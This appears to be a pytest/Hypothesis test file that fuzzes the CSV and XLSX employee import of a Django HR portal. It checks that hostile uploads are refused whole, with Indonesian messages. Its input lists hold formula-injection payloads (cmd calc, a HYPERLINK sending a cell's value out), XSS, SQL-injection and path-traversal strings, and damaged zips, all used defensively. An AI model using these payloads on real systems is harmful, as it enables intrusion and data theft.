"""Property-based tests of the employee import (CSV and XLSX) under random and hostile files.

Files go in through the upload view and the import task (eager here, run once the upload commits):
URL routing, the form's size and content checks, the reader, the validator and the write. Properties
checked on every example:
- never a server error and never an exception out of the task;
- all or nothing: when the file is refused (by the form or by any row) employees, positions and units
  are exactly as before, and every message is Indonesian (row and column given where they apply);
- generated valid rows import with the values given, and importing the same file again changes nothing
  (no row created or updated, not even its updated_at).
Run with `--hypothesis-show-statistics` to see how many examples each property ran and their outcomes.
"""

import csv
import io
import re
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from django.utils.translation import gettext
from hypothesis import event as hypothesis_event
from hypothesis import given
from hypothesis import strategies as st
from hypothesis.control import currently_in_test_context
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from asnportal.org.importer import error_message, errors_xlsx
from asnportal.org.models import Employee, EmployeeImport, Position, Unit
from tests.fuzzing import FUZZ, FUZZ_LESS, FUZZ_MORE

from .importing import HEADER, import_nip, row

pytestmark = pytest.mark.django_db


def event(name: str) -> None:
    """Count an outcome (shown by --hypothesis-show-statistics); a no-op in the plain tests."""
    if currently_in_test_context():
        hypothesis_event(name)


# --- strategies ----------------------------------------------------------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
]
HOSTILE = [
    "<script>alert(1)</script>",
    '"><script>alert(document.cookie)</script>',
    "<img src=x onerror=alert(1)>",
    "'; DROP TABLE org_employee; --",
    "1' OR '1'='1",
    "1; SELECT pg_sleep(5)",
    "UNION SELECT password FROM accounts_user",
    "\x00",
    "a\x00b",
    "\x01\x02\x03\x07\x08\x0b\x0c\x1b[31m\x7f",
    "\u202e\u200b\ufeff",
    "{{ 7|add:7 }}{% debug %}",
    "%(nip)s %s %d {0}",
    "../../../../etc/passwd",
    "9" * 40,
    "NaN",
    "Infinity",
    "",
    " ",
    *FORMULAS,
]
BAD_NIPS = [
    "19850716201001100",  # 17 digits
    "1985071620100110031",  # 19 digits
    "198513162010011003",  # month 13
    "198502302010011003",  # 30 February
    "198507162010131003",  # TMT month 13
    "198507162010013003",  # sex digit 3
    "201007162005011003",  # TMT before birth
    "\u0661\u0669\u0668\u0665\u0660\u0667\u0661\u0666\u0662\u0660\u0661\u0660\u0660\u0661\u0661\u0660\u0660\u0663",
    "\u00b9\u2079\u2078\u2075\u2070\u2077\u00b9\u2076\u00b2\u2070\u00b9\u2070\u2070\u00b9\u00b9\u2070\u2070\u00b3",
    "1.98507162010011E+17",
    "0" * 18,
    "9" * 18,
]

any_text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=60)
oversized = st.builds(
    lambda ch, n: ch * n, st.sampled_from(["a", "<", "é", "字", "\x00", "9", "'"]), st.integers(201, 6000)
)
hostile_text = st.one_of(
    st.sampled_from(HOSTILE),
    any_text,
    st.binary(max_size=60).map(lambda b: b.decode("latin-1")),
    oversized,
    st.sampled_from(HOSTILE).flatmap(lambda h: any_text.map(lambda t: t + h)),
)
# A name a person may have: any printable text (markup and SQL included), no control character, not
# a formula, at most 200 characters once trimmed.
valid_name = st.text(
    st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp")), min_size=1, max_size=200
).filter(lambda t: t.strip() and not t.strip().startswith(("=", "+", "-", "@")) and "_x" not in t)
valid_name = st.one_of(
    valid_name,
    st.sampled_from(
        [
            "<script>alert(1)</script>",
            "O'Brien; DROP TABLE org_employee; --",
            "Ni Luh Putu Ayu Kadek",
            "Muhammad Ja'far Al-Habsyi, S.Kom., M.T.",
            "Yohana Wamafma\u0301",
            "字" * 200,
        ]
    ),
)
MUTATIONS = ["nip", "name", "kind", "rank", "position", "position_kind", "level", "unit"]
MUTATIONS += ["supervisor", "is_remote", "email", "phone"]
CSV_ENCODINGS = ["utf-8", "utf-8-sig", "latin-1", "cp1252", "utf-16", "utf-16-le", "utf-32"]


@st.composite
def valid_rows(draw) -> list[dict]:
    """1-5 rows that the import must accept, each supervised by nobody or by an earlier row."""
    numbers = draw(st.lists(st.integers(0, 49_999), min_size=1, max_size=5, unique=True))
    rows = []
    for i, n in enumerate(numbers):
        over = {
            "NAMA": draw(valid_name),
            "GOLONGAN": draw(st.sampled_from(["III/a", "iii / a", "3a", "III/A", " III/a "])),
            "LOKASI TERPENCIL": draw(st.sampled_from(["Y", "N", "ya", "tidak", ""])),
            "EMAIL": draw(st.sampled_from(["", f"p{n}@example.go.id", f"Pegawai.{n}+bkd@example.go.id"])),
            "TELEPON": draw(st.sampled_from(["", "081234567890", "+62 812-3456-7890", "(0736) 21234"])),
        }
        if i and draw(st.booleans()):
            over["ATASAN NIP"] = import_nip(numbers[draw(st.integers(0, i - 1))])
        if draw(st.booleans()):
            over["NIP"] = " ".join([import_nip(n)[:8], import_nip(n)[8:14], import_nip(n)[14:]])
        rows.append(row(n, **over))
    return rows


@st.composite
def header_of(draw, hostile: bool) -> list[str]:
    """The template's header in any order and case, with aliases; hostile: dropped, doubled or junk."""
    aliases = {
        "NAMA": "Nama Lengkap",
        "GOLONGAN": "gol_ruang",
        "ATASAN NIP": "NIP ATASAN",
        "TELEPON": "No HP",
    }
    header = [
        aliases[h]
        if h in aliases and draw(st.booleans())
        else draw(st.sampled_from([h, h.lower(), f" {h} "]))
        for h in HEADER
    ]
    header = draw(st.permutations(header))
    if hostile:
        for _ in range(draw(st.integers(0, 3))):
            action = draw(st.sampled_from(["drop", "double", "junk", "rename"]))
            index = draw(st.integers(0, len(header) - 1))
            if action == "drop" and len(header) > 1:
                header.pop(index)
            elif action == "double":
                header.append(header[index])
            elif action == "junk":
                header.append(draw(hostile_text))
            else:
                header[index] = draw(hostile_text)
    return list(header)


def canonical(label: str) -> str:
    """The template header a (possibly aliased) label stands for."""
    norm = " ".join(re.sub(r"[_\s]+", " ", label).upper().split())
    return {
        "NAMA LENGKAP": "NAMA",
        "GOL RUANG": "GOLONGAN",
        "NIP ATASAN": "ATASAN NIP",
        "NO HP": "TELEPON",
    }.get(norm, norm)


def as_table(rows: list[dict], header: list[str]) -> list[list[str]]:
    return [header] + [[r.get(canonical(h), "") for h in header] for r in rows]


def csv_of(table: list[list[str]], delimiter: str, encoding: str, title: bool) -> bytes:
    buffer = io.StringIO()
    if title:
        buffer.write("DATA PNS PEMERINTAH PROVINSI BENGKULU\r\n")
    csv.writer(buffer, delimiter=delimiter).writerows(table)
    return buffer.getvalue().encode(encoding, errors="replace")


def xlsx_of(table: list[list[str]], title: bool = False) -> bytes:
    """A workbook of the table (characters XLSX cannot hold dropped; '=...' cells become formulas)."""
    book = openpyxl.Workbook()
    sheet = book.active
    if title:
        sheet.append(["DATA PNS PEMERINTAH PROVINSI BENGKULU"])
    for values in table:
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in values])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def damaged_xlsx(draw, good: bytes) -> bytes:
    kind = draw(st.sampled_from(["truncated", "sheet_garbage", "sheet_cut", "no_workbook", "pk_garbage"]))
    event(f"xlsx damage: {kind}")
    if kind == "truncated":
        return good[: draw(st.integers(4, len(good) - 1))]
    if kind == "pk_garbage":
        return b"PK\x03\x04" + draw(st.binary(max_size=2000))
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/workbook.xml" and kind == "no_workbook":
                continue
            if info.filename.startswith("xl/worksheets/"):
                if kind == "sheet_garbage":
                    data = draw(st.binary(max_size=500))
                elif kind == "sheet_cut":
                    data = data[: draw(st.integers(0, len(data) - 1))]
            dst.writestr(info.filename, data)
    return out.getvalue()


@st.composite
def hostile_file(draw, base: list[dict]) -> tuple[str, bytes]:
    """Valid rows with some cells made hostile, rows doubled, the header broken, any encoding."""
    rows = [dict(r) for r in base]
    for r in rows:
        for _ in range(draw(st.integers(0, 2))):
            key = HEADER[MUTATIONS.index(draw(st.sampled_from(MUTATIONS)))]
            r[key] = (
                draw(st.one_of(hostile_text, st.sampled_from(BAD_NIPS)))
                if key == "NIP"
                else draw(hostile_text)
            )
    if draw(st.booleans()):
        rows.append(dict(draw(st.sampled_from(rows)), NAMA="Kembar NIP"))  # a duplicated NIP
    header = draw(header_of(hostile=True))
    table = as_table(rows, header)
    shape = draw(st.sampled_from(["csv", "csv", "xlsx", "xlsx", "bytes", "damaged_xlsx"]))
    event(f"file: {shape}")
    if shape == "csv":
        encoding = draw(st.sampled_from(CSV_ENCODINGS))
        event(f"encoding: {encoding}")
        content = csv_of(table, draw(st.sampled_from([",", ";", "\t"])), encoding, draw(st.booleans()))
        return draw(st.sampled_from(["pegawai.csv", "PEGAWAI.CSV", "pegawai.xlsx", "pegawai.txt"])), content
    if shape == "xlsx":
        return draw(st.sampled_from(["pegawai.xlsx", "Pegawai.XLSX", "pegawai.csv"])), xlsx_of(table)
    if shape == "damaged_xlsx":
        return "pegawai.xlsx", damaged_xlsx(draw, xlsx_of(table))
    return draw(st.sampled_from(["pegawai.csv", "pegawai.xlsx"])), draw(st.binary(max_size=4000))


# --- helpers -------------------------------------------------------------------------------------------


def state() -> tuple:
    """Everything an import may write: employees (with their timestamps), positions and units."""
    return (
        sorted(
            Employee.objects.values_list(
                "nip",
                "name",
                "region_id",
                "unit_id",
                "position_id",
                "rank",
                "kind",
                "supervisor_id",
                "is_remote",
                "email",
                "phone",
                "updated_at",
            )
        ),
        sorted(Position.objects.values_list("id", "region_id", "name", "kind", "level")),
        sorted(Unit.objects.values_list("id", "region_id", "code", "name", "is_active")),
    )


ENGLISH = re.compile(
    r"\b(the|this|must|enter|ensure|please|should|field|value|required|characters|file is|"
    r"is not|already|has|have|select a|upload a|submitted|cannot|row)\b",
    re.IGNORECASE,
)


def assert_indonesian(message: str, sent=()) -> None:
    text = message
    for echo in sorted({str(s).strip()[:60] for s in sent if str(s).strip()}, key=len, reverse=True):
        text = text.replace(echo, " ")
    assert not ENGLISH.search(text), f"English message: {message[:200]!r}"


def assert_import_errors_indonesian(imp: EmployeeImport) -> None:
    assert imp.errors, "a refused import says why"
    with translation.override("id"):
        for error in imp.errors:
            # Translated: the catalogue has the message (a test elsewhere checks it is complete).
            assert gettext(error["msgid"]) != error["msgid"] or not re.search("[a-z]", error["msgid"]), error
            assert_indonesian(error_message(error), (error.get("params") or {}).values())
            assert error["row"] is None or error["row"] >= 1
            assert len(error_message(error)) < 600, "an echoed cell is shortened"


class Uploader:
    """Posts files as the region's HR officer and runs the import once the upload commits."""

    def __init__(self, cast, capture):
        self.client = cast.client("hr")
        self.capture = capture

    def upload(self, name: str, content: bytes):
        with self.capture(execute=True):
            response = self.client.post(
                reverse("org:import_upload"), {"file": SimpleUploadedFile(name, content)}
            )
        event(f"HTTP {response.status_code}")
        assert response.status_code < 500, response.content[:500]
        return response


@pytest.fixture
def uploader(cast, django_capture_on_commit_callbacks):
    return Uploader(cast, django_capture_on_commit_callbacks)


def check_outcome(uploader: Uploader, name: str, content: bytes, before: tuple, imports_before: int):
    """The properties every upload keeps; returns the finished import, or None when the form refused."""
    response = uploader.upload(name, content)
    if response.status_code == 200:
        event("refused by the form")
        form = response.context["form"]
        assert form.errors, "a refused upload says why"
        for errors in form.errors.values():
            for message in errors:
                assert_indonesian(str(message))
        assert EmployeeImport.objects.count() == imports_before and state() == before
        return None
    assert response.status_code == 302
    imp = EmployeeImport.objects.latest("pk")
    assert response["Location"] == reverse("org:import_detail", args=[imp.pk])
    assert imp.status in (EmployeeImport.Status.DONE, EmployeeImport.Status.FAILED), imp.status
    event(f"import {imp.status}")
    page = uploader.client.get(response["Location"])
    assert page.status_code == 200
    assert b"<script>alert" not in page.content and b"<img src=x" not in page.content
    if imp.status == EmployeeImport.Status.FAILED:
        assert state() == before, "a refused file wrote something"
        assert (imp.created_count, imp.updated_count) == (0, 0)
        assert_import_errors_indonesian(imp)
        report = uploader.client.get(reverse("org:import_errors", args=[imp.pk]))
        assert report.status_code == 200
    return imp


def assert_reimport_changes_nothing(uploader: Uploader, name: str, content: bytes) -> None:
    settled = state()
    again = check_outcome(uploader, name, content, settled, EmployeeImport.objects.count())
    assert again is not None and again.status == EmployeeImport.Status.DONE, again and again.errors
    assert (again.created_count, again.updated_count) == (0, 0)
    assert state() == settled


# --- properties ----------------------------------------------------------------------------------------


@FUZZ
@given(
    rows=valid_rows(),
    header=header_of(hostile=False),
    shape=st.sampled_from(["csv", "xlsx"]),
    delimiter=st.sampled_from([",", ";"]),
    encoding=st.sampled_from(["utf-8", "utf-8-sig"]),
    title=st.booleans(),
)
def test_valid_rows_import_exactly_and_the_same_file_again_changes_nothing(
    cast, uploader, rows, header, shape, delimiter, encoding, title
):
    table = as_table(rows, header)
    name, content = (
        ("pegawai.csv", csv_of(table, delimiter, encoding, title))
        if shape == "csv"
        else ("pegawai.xlsx", xlsx_of(table, title))
    )
    nips = [r["NIP"].replace(" ", "") for r in rows]
    existing = set(Employee.objects.filter(nip__in=nips).values_list("nip", flat=True))
    before = state()
    imp = check_outcome(uploader, name, content, before, EmployeeImport.objects.count())
    assert imp is not None and imp.status == EmployeeImport.Status.DONE, imp and imp.errors
    assert imp.created_count == len(set(nips) - existing)
    assert imp.updated_count <= len(existing)
    stored = {e.nip: e for e in Employee.objects.filter(nip__in=nips).select_related("supervisor")}
    for r, nip in zip(rows, nips, strict=True):
        employee = stored[nip]
        assert employee.name == r["NAMA"].strip()
        assert (employee.region_id, employee.unit_id, employee.rank) == (
            cast.region_a.pk,
            cast.unit_a.pk,
            "III/a",
        )
        assert employee.is_remote == (r["LOKASI TERPENCIL"] in ("Y", "ya"))
        assert employee.email == r["EMAIL"] and employee.phone == r["TELEPON"]
        assert (employee.supervisor.nip if employee.supervisor else "") == r["ATASAN NIP"]
    assert_reimport_changes_nothing(uploader, name, content)


@FUZZ_MORE
@given(base=valid_rows(), data=st.data())
def test_hostile_files_never_error_and_are_imported_whole_or_not_at_all(cast, uploader, base, data):
    name, content = data.draw(hostile_file(base))
    before = state()
    imp = check_outcome(uploader, name, content, before, EmployeeImport.objects.count())
    if imp is not None and imp.status == EmployeeImport.Status.DONE:
        # Whatever was accepted was accepted whole: every NIP of the file is there, and again is a no-op.
        assert imp.created_count + imp.updated_count <= imp.total_rows
        assert_reimport_changes_nothing(uploader, name, content)


@FUZZ_LESS
@given(
    good=valid_rows(),
    bad_index=st.integers(0, 4),
    column=st.sampled_from(MUTATIONS),
    value=st.one_of(st.sampled_from(HOSTILE), st.sampled_from(BAD_NIPS), oversized),
    shape=st.sampled_from(["csv", "xlsx"]),
)
def test_one_bad_row_among_good_ones_writes_nothing_and_is_named_by_row(
    cast, uploader, good, bad_index, column, value, shape
):
    rows = [dict(r) for r in good]
    bad = bad_index % len(rows)
    key = HEADER[MUTATIONS.index(column)]
    rows[bad][key] = value
    table = as_table(rows, HEADER)
    name, content = (
        ("pegawai.csv", csv_of(table, ",", "utf-8", False))
        if shape == "csv"
        else (
            "pegawai.xlsx",
            xlsx_of(table),
        )
    )
    before = state()
    imp = check_outcome(uploader, name, content, before, EmployeeImport.objects.count())
    if imp is None or imp.status == EmployeeImport.Status.DONE:
        # The value happened to be acceptable here (an empty optional cell, a name with markup...).
        event("mutation accepted")
        return
    event(f"refused for {column}")
    file_errors = [e for e in imp.errors if e["row"] is None]
    if not file_errors:
        assert {e["row"] for e in imp.errors} >= {bad + 2}, imp.errors  # header is line 1


# --- fixed hostile cases (each one a bug found by the properties or a case they rarely reach) ----------


def refused(uploader, name: str, content: bytes) -> EmployeeImport:
    before = state()
    imp = check_outcome(uploader, name, content, before, EmployeeImport.objects.count())
    assert imp is not None and imp.status == EmployeeImport.Status.FAILED
    return imp


def messages(imp: EmployeeImport) -> list[tuple]:
    with translation.override("en"):
        return [(e["row"], e["column"], error_message(e)) for e in imp.errors]


def test_a_cell_longer_than_the_csv_limit_is_a_file_message_not_a_crash(uploader):
    """Bug: csv.Error "field larger than field limit" escaped from the task (a 500 with eager tasks)."""
    imp = refused(
        uploader, "pegawai.csv", csv_of(as_table([row(1, NAMA="x" * 200_000)], HEADER), ",", "utf-8", False)
    )
    assert messages(imp) == [
        (
            None,
            "",
            "Line 2 of the CSV file cannot be read: a cell is longer than 131072 characters or a quote is not closed.",
        )
    ]


def test_a_nul_byte_past_the_first_64_kb_is_refused_before_the_database_sees_it(uploader):
    """Bug: only the first 64 kB were checked; PostgreSQL then refused the NUL inside the write."""
    rows = [row(i) for i in range(1, 700)] + [row(900, NAMA="Budi\x00Santoso")]
    content = csv_of(as_table(rows, HEADER), ",", "utf-8", False)
    assert content.index(b"\x00") > 65536
    response = uploader.upload("pegawai.csv", content)
    assert response.status_code == 200 and not EmployeeImport.objects.exists()
    assert "bukan berkas CSV" in str(response.context["form"].errors["file"])


def test_an_email_the_validator_accepts_but_the_column_cannot_hold_is_a_row_message(uploader):
    """Bug: a 255-320 character address passed validate_email and failed the INSERT (DataError)."""
    email = "a" * 60 + "@" + ".".join(["b" * 60] * 4) + ".id"
    assert 254 < len(email) <= 320
    imp = refused(
        uploader, "pegawai.csv", csv_of(as_table([row(1), row(2, EMAIL=email)], HEADER), ",", "utf-8", False)
    )
    assert messages(imp) == [(3, "EMAIL", "The email address is longer than 254 characters.")]


@pytest.mark.parametrize("cut", ["half", "garbage"])
def test_a_workbook_whose_sheet_is_damaged_is_a_file_message(uploader, cut):
    """Bug: read-only openpyxl parses the sheet while iterating; its ParseError escaped the task."""
    good = xlsx_of(as_table([row(1)], HEADER))
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.startswith("xl/worksheets/"):
                data = data[: len(data) // 2] if cut == "half" else b"<sheetData><row><c" + b"\xff" * 50
            dst.writestr(info.filename, data)
    imp = refused(uploader, "pegawai.xlsx", out.getvalue())
    assert messages(imp) == [(None, "", "The Excel file cannot be read.")]


def test_control_characters_are_a_row_message_and_the_error_report_still_downloads(uploader):
    """Bug: control characters were stored, and an XLSX of them (the directory, this error report) failed."""
    imp = refused(
        uploader,
        "pegawai.csv",
        csv_of(as_table([row(1, NAMA="Budi\x1b[31m", GOLONGAN="\x07Z")], HEADER), ",", "utf-8", False),
    )
    found = messages(imp)
    assert (2, "NAMA", "The cell contains invisible control characters; type the value again.") in found
    assert (2, "GOLONGAN", "Unknown golongan \u201c\ufffdZ\u201d.") in found
    sheet = openpyxl.load_workbook(io.BytesIO(errors_xlsx(imp.errors))).active
    assert sheet.max_row == len(imp.errors) + 1


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        (
            "NAMA",
            "=cmd|' /C calc'!A0",
            "The value begins with \u201c=\u201d, which a spreadsheet runs as a formula; remove that character.",
        ),
        (
            "NAMA",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "The value begins with \u201c@\u201d, which a spreadsheet runs as a formula; remove that character.",
        ),
        (
            "JABATAN",
            "+1+cmd|' /C calc'!A0",
            "The value begins with \u201c+\u201d, which a spreadsheet runs as a formula; remove that character.",
        ),
        ("TELEPON", "=1+1", "The phone number may hold only digits, spaces and + - / ( ) . characters."),
    ],
)
def test_formulas_in_text_cells_are_refused_by_row(uploader, column, value, message):
    imp = refused(
        uploader, "pegawai.csv", csv_of(as_table([row(1, **{column: value})], HEADER), ",", "utf-8", False)
    )
    assert (2, column, message) in messages(imp)


def test_a_formula_cell_of_a_workbook_is_not_evaluated_into_a_value(uploader):
    # openpyxl writes '=...' as a formula without a cached value: the import reads an empty NIP.
    imp = refused(uploader, "pegawai.xlsx", xlsx_of(as_table([row(1, NIP='=1985071620100110&"03"')], HEADER)))
    assert [(r, c) for r, c, _m in messages(imp)] == [(2, "NIP")]


def test_the_error_report_never_holds_a_formula_or_an_illegal_character():
    errors = [{"row": 2, "column": "=cmd|' /C calc'!A0", "msgid": "", "message": '=HYPERLINK("x")\x07'}]
    sheet = openpyxl.load_workbook(io.BytesIO(errors_xlsx(errors))).active
    # The text as written, typed as text and quote-prefixed: a spreadsheet shows it, never runs it.
    assert [c.value for c in sheet[2]] == [2, "=cmd|' /C calc'!A0", '=HYPERLINK("x")']
    assert all(c.data_type != "f" for c in sheet[2])
    assert [c.quotePrefix for c in sheet[2]] == [False, True, True]


def test_a_huge_cell_is_echoed_shortened_in_its_message(uploader):
    imp = refused(
        uploader,
        "pegawai.csv",
        csv_of(as_table([row(1, GOLONGAN="Z" * 100_000)], HEADER), ",", "utf-8", False),
    )
    assert len(str(imp.errors)) < 1000
    assert messages(imp) == [(2, "GOLONGAN", "Unknown golongan \u201c" + "Z" * 79 + "\u2026\u201d.")]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1", "cp1252"])
def test_csv_in_another_encoding_is_refused_in_indonesian(uploader, encoding):
    content = csv_of(as_table([row(1, NAMA="Bambang Séptiàn \u2013 Dinas")], HEADER), ",", encoding, False)
    response = uploader.upload("pegawai.csv", content)
    assert response.status_code == 200 and not EmployeeImport.objects.exists()
    message = str(response.context["form"].errors["file"])
    assert "UTF-8" in message or "bukan berkas CSV" in message
    assert_indonesian(message)


@pytest.mark.parametrize(
    "content",
    [
        b"PK\x03\x04" + b"\x00" * 100,
        b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\xff" * 500,
        b"PK\x05\x06" + b"\x00" * 18,  # an empty zip
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500,  # an old .xls renamed
        b"NIP,NAMA\n1,2\n",
    ],
)
def test_malformed_zips_posing_as_xlsx_are_refused_by_the_form(uploader, content):
    response = uploader.upload("pegawai.xlsx", content)
    assert response.status_code == 200 and not EmployeeImport.objects.exists()
    assert "bukan buku kerja Excel" in str(response.context["form"].errors["file"])


def test_a_zip_with_too_many_entries_is_refused_unopened(uploader):
    good = xlsx_of(as_table([row(1)], HEADER))
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info.filename))
        for i in range(300):
            dst.writestr(f"xl/media/x{i}.bin", b"")
    response = uploader.upload("pegawai.xlsx", out.getvalue())
    assert response.status_code == 200 and not EmployeeImport.objects.exists()


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(uploader, settings):
    settings.IMPORT_MAX_BYTES = 1024 * 1024
    content = csv_of(as_table([row(i) for i in range(1, 12_000)], HEADER), ",", "utf-8", False)
    assert len(content) > settings.IMPORT_MAX_BYTES
    response = uploader.upload("pegawai.csv", content)
    assert response.status_code == 200 and not EmployeeImport.objects.exists()
    message = str(response.context["form"].errors["file"])
    assert "1 MB" in message
    assert_indonesian(message)


def test_a_semicolon_csv_with_a_title_line_above_the_header_is_read(uploader):
    """Bug found by the property: the delimiter was sniffed from the title line, not the header."""
    content = csv_of(as_table([row(1), row(2)], HEADER), ";", "utf-8", title=True)
    imp = check_outcome(uploader, "pegawai.csv", content, state(), 0)
    assert (imp.status, imp.created_count) == ("done", 2), imp.errors


@pytest.mark.parametrize("rank", ["9" * 4301, "\u00b2", "\u0669"])
def test_a_golongan_of_thousands_of_digits_or_other_digits_is_a_row_message(uploader, rank):
    """Bug found by the property: int() of a 4301-digit or superscript golongan raised ValueError."""
    imp = refused(
        uploader, "pegawai.csv", csv_of(as_table([row(1, GOLONGAN=rank)], HEADER), ",", "utf-8", False)
    )
    assert [(r, c) for r, c, _m in messages(imp)] == [(2, "GOLONGAN")]


def test_duplicated_headers_take_the_first_column(uploader):
    header = [*HEADER, "NAMA"]
    table = [header, [*as_table([row(1)], HEADER)[1], "Nama Kedua"]]
    before = state()
    imp = check_outcome(uploader, "pegawai.csv", csv_of(table, ",", "utf-8", False), before, 0)
    assert imp.status == "done"
    assert Employee.objects.get(nip=import_nip(1)).name == "Pegawai Impor 1"


def test_ten_thousand_bad_rows_give_a_bounded_list_and_save_nothing(uploader):
    rows = [row(i, GOLONGAN="Z", TELEPON="=1") for i in range(10_000)]
    imp = refused(uploader, "pegawai.csv", csv_of(as_table(rows, HEADER), ",", "utf-8", False))
    assert len(imp.errors) == 5001
    assert messages(imp)[-1] == (None, "", "15000 more errors are not listed; fix the ones above first.")
